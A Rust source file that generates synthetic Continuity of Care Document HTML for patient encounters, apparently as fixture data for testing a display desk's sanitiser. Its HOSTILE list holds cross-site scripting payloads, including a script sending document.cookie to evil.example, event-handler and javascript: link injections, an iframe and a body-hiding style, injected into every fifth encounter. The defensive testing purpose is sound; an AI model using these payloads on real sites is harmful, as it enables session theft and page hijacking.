//! Nextech's CCD HTML for an encounter, generated on request from the seed. Some documents
//! are hostile on purpose (`<script>`, event handlers, `javascript:` links, iframes), because
//! real CCDs arrive from many systems and the desk must sanitise before it displays them.

use std::fmt::Write;

use rand::rngs::StdRng;
use rand::seq::IndexedRandom;
use rand::{Rng, SeedableRng};

use crate::world::{Encounter, World};

pub const SECTIONS: &[(&str, &str)] = &[
    ("reason", "Reason for Visit"),
    ("history", "History of Present Illness"),
    ("problems", "Problems"),
    ("medications", "Medications"),
    ("allergies", "Allergies"),
    ("vitals", "Vital Signs"),
    ("plan", "Plan of Care"),
];

const HOSTILE: &[&str] = &[
    "<script>fetch('https://evil.example/steal?c='+document.cookie)</script>",
    "<img src=\"x\" onerror=\"alert('ccd')\">",
    "<a href=\"javascript:alert(document.domain)\">Open patient portal</a>",
    "<div onmouseover=\"window.location='https://evil.example'\">Hover for details</div>",
    "<iframe src=\"https://evil.example/frame\"></iframe>",
    "<svg onload=\"alert(1)\"><circle r=\"4\"/></svg>",
    "<a href=\"JaVaScRiPt:alert(1)\">Lab report</a>",
    "<style>body{display:none}</style>",
];

fn section_body(key: &str, rng: &mut StdRng) -> String {
    match key {
        "reason" => ["Follow-up of hypertension", "Annual wellness visit", "Rash on left forearm", "Knee pain after fall", "Medication refill"].choose(rng).copied().unwrap_or("Visit").to_string(),
        "history" => "Patient reports symptoms for two weeks. Denies fever &amp; chills. Sleep &lt; 6 h.".to_string(),
        "problems" => "<ul><li>Essential hypertension (I10)</li><li>Type 2 diabetes mellitus (E11.9)</li></ul>".to_string(),
        "medications" => "<table><tr><th>Drug</th><th>Dose</th></tr><tr><td>Lisinopril</td><td>10 mg daily</td></tr><tr><td>Metformin</td><td>500 mg BID</td></tr></table>".to_string(),
        "allergies" => ["NKDA", "Penicillin (hives)", "Latex"].choose(rng).copied().unwrap_or("NKDA").to_string(),
        "vitals" => format!("BP {}/{} mmHg, HR {} bpm, Temp 98.{}&deg;F", rng.random_range(105..150), rng.random_range(65..95), rng.random_range(55..100), rng.random_range(0..9)),
        _ => "Return in 3 months. Labs: CBC, CMP, HbA1c.".to_string(),
    }
}

/// The CCD of one encounter, whole or one section of it.
pub fn encounter_ccd(world: &World, enc: &Encounter, section: Option<&str>) -> String {
    let mut rng = StdRng::seed_from_u64(world.seed ^ (u64::from(enc.id) << 16));
    let hostile = enc.id.is_multiple_of(5);
    let doctor = world
        .providers
        .get(enc.provider)
        .map_or_else(String::new, |p| {
            format!("{} {}, {}", p.first, p.last, p.designation)
        });
    let mut html =
        String::from("<html><head><title>Continuity of Care Document</title></head><body>");
    let _ = write!(
        html,
        "<h1>Encounter {} &mdash; {}</h1><p>Provider: {doctor}</p>",
        enc.id, enc.kind
    );
    for (key, title) in SECTIONS {
        let body = section_body(key, &mut rng);
        if section.is_some_and(|s| !s.eq_ignore_ascii_case(key)) {
            continue;
        }
        let _ = write!(
            html,
            "<h2>{title}</h2><div class=\"section\" data-section=\"{key}\">{body}"
        );
        if hostile && rng.random_bool(0.5) {
            html.push_str(HOSTILE.choose(&mut rng).copied().unwrap_or(""));
        }
        html.push_str("</div>");
    }
    if hostile {
        html.push_str(HOSTILE[usize::try_from(enc.id).unwrap_or(0) % HOSTILE.len()]);
    }
    html.push_str("</body></html>");
    html
}
